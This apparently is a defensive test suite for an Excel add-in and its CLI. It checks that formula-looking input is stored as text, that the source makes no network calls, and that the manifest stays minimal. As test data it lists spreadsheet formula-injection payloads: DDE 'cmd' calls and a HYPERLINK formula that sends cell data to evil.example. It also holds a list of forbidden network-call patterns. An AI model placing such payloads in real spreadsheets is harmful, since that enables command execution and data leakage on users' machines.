/**
 * Security of what the engine and the CLI write and do:
 * - text that starts with = + - @ (labels, names, values) is written as text, never as a formula;
 * - nothing in src talks to the network (no fetch/XHR/beacon/socket; the only outside URL is Office.js);
 * - the add-in asks for ReadWriteDocument only (test/manifest/manifest.test.ts checks the manifest in depth).
 */
import { strict as assert } from "node:assert";
import { promises as fs, readdirSync, readFileSync, statSync } from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import ExcelJS from "exceljs";
import { cli, cleanReport, ROOT, writeReport } from "../cli/helpers";

const INJECTED = [
  '=HYPERLINK("http://evil.example/"&A1,"点击")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=1+1",
];

describe("hostile inputs: security", function () {
  this.timeout(60_000);
  let dir: string;
  before(async () => {
    dir = await fs.mkdtemp(path.join(os.tmpdir(), "dr-sec-"));
  });
  after(async () => {
    await fs.rm(dir, { recursive: true, force: true });
  });

  it("writes labels and values starting with = + - @ as text (ExcelJS cell type String), never as formulas", async () => {
    const r = cleanReport();
    r.meta.body = { text: INJECTED[0]! };
    const cats = r.proactive!.categories;
    cats[0]!.name = INJECTED[1]!;
    cats[1]!.name = INJECTED[2]!;
    cats[2]!.name = INJECTED[3]!;
    r.proactive!.children[0]!.categories[0]!.name = INJECTED[4]!;
    const input = path.join(dir, "injected.xlsx");
    await writeReport(input, r);
    const out = path.join(dir, "injected-report.xlsx");
    const g = await cli(["generate", input, "-o", out]);
    assert.ok(g.code === 0 || g.code === 1, g.out + g.err);
    const template = path.join(dir, "template.xlsx");
    assert.equal((await cli(["template", "-o", template, "--unit", INJECTED[0]!])).code, 0);

    const inTables = new Set<string>();
    for (const file of [input, out, template]) {
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.readFile(file);
      const seen = new Set<string>();
      wb.eachSheet((ws) => {
        ws.eachRow({ includeEmpty: false }, (row) => {
          row.eachCell({ includeEmpty: false }, (cell) => {
            if (cell.type === ExcelJS.ValueType.Merge) return; // the master cell is checked
            const v = cell.value;
            if (typeof v === "string" && /^[=+\-@]/.test(v)) {
              assert.equal(cell.type, ExcelJS.ValueType.String, `${ws.name}!${cell.address} ${v}`);
              seen.add(v);
              if (file === out && ws.name === "报告表格") inTables.add(v);
            }
            if (cell.type === ExcelJS.ValueType.Formula) {
              const f = cell.formula ?? "";
              assert.doesNotMatch(f, /HYPERLINK|cmd\||evil/i, `${ws.name}!${cell.address} =${f}`);
            }
            // Text that looks like a formula or a command must appear only as a string value.
            if (typeof v === "object" && v !== null && "formula" in v) {
              for (const t of INJECTED) assert.ok(!String(v.formula).includes(t.replace(/^=/, "")), cell.address);
            }
          });
        });
      });
      if (file === template) assert.ok(seen.has(INJECTED[0]!), "the unit is in the template as text");
      else for (const t of INJECTED) assert.ok(seen.has(t), `${path.basename(file)}: ${t} written as text`);
    }
    // The generated table copies the category names: as text too.
    // (The reader drops the spaces inside a category name, as it does for "政 府 文 件".)
    for (const t of INJECTED.slice(1, 4)) assert.ok(inTables.has(t.replace(/\s/g, "")), `报告表格 holds ${t} as text`);
    // And the report reads the names back as the same text.
    const c = await cli(["check", out, "--json"]);
    assert.ok(c.code === 0 || c.code === 1);
  });

  it("nothing in src talks to the network: no fetch, XHR, beacon or socket; the only outside URL is Office.js", () => {
    const files: string[] = [];
    const walk = (d: string): void => {
      for (const n of readdirSync(d)) {
        const p = path.join(d, n);
        if (statSync(p).isDirectory()) walk(p);
        else if (/\.(ts|tsx|js|html|css)$/.test(n) && !/\.test\.ts$|\.testutil\.ts$/.test(n)) files.push(p);
      }
    };
    walk(path.join(ROOT, "src"));
    assert.ok(files.length > 50, `${files.length} source files`);
    const FORBIDDEN = [
      /\bfetch\s*\(/,
      /\bXMLHttpRequest\b/,
      /\bsendBeacon\b/,
      /\bWebSocket\b/,
      /\bEventSource\b/,
      /\bimportScripts\s*\(/,
      /\bnew\s+Image\s*\(/,
      /applicationinsights|appInsights|\btelemetry\s*\(/i,
      /\brequire\s*\(\s*["'](?:node:)?(?:https?|net|tls|dgram)["']\s*\)/,
      /\bfrom\s+["'](?:node:)?(?:https?|net|tls|dgram)["']/,
    ];
    // Office.js; and XML namespace names of the Open XML package (identifiers the package writer matches, never fetched).
    const ALLOWED_URL =
      /^https?:\/\/(appsforoffice\.microsoft\.com|www\.w3\.org|schemas\.openxmlformats\.org|schemas\.microsoft\.com)([/;]|$)/;
    const problems: string[] = [];
    for (const f of files) {
      const text = readFileSync(f, "utf8");
      const rel = path.relative(ROOT, f);
      for (const re of FORBIDDEN) if (re.test(text)) problems.push(`${rel}: ${re}`);
      for (const m of text.matchAll(/https?:\/\/[^\s"'`<>)]+/g)) {
        if (!ALLOWED_URL.test(m[0])) problems.push(`${rel}: URL ${m[0]}`);
      }
    }
    assert.deepEqual(problems, []);
    // The checker itself can fail: it finds a fetch where there is one.
    assert.ok(FORBIDDEN.some((re) => re.test('await fetch("https://example.com/t")')));
  });

  it("the manifest asks for ReadWriteDocument only (see test/manifest/manifest.test.ts)", () => {
    const xml = readFileSync(path.join(ROOT, "manifest.xml"), "utf8");
    const perms = [...xml.matchAll(/<Permissions>([^<]*)<\/Permissions>/g)].map((m) => m[1]);
    assert.deepEqual(perms, ["ReadWriteDocument"]);
  });
});
